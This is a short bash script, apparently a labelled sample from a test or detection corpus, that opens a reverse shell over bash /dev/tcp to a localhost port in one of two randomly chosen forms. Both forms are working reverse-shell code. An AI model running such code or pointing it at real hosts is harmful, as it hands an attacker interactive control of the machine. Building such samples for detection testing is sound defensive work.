#!/bin/bash
# family: reverse-shell
# needs: listener
# actors: bash
# Bash /dev/tcp reverse shell: the shell itself connects back and reads commands from the socket.
RANDOM=$PG_SEED
sleep 0.$((RANDOM % 5))
if [ $((RANDOM % 2)) -eq 0 ]; then
  exec /bin/bash -i >& /dev/tcp/127.0.0.1/$PG_PORT 0>&1
else
  exec 5<>/dev/tcp/127.0.0.1/$PG_PORT
  exec /bin/bash <&5 >&5 2>&5
fi
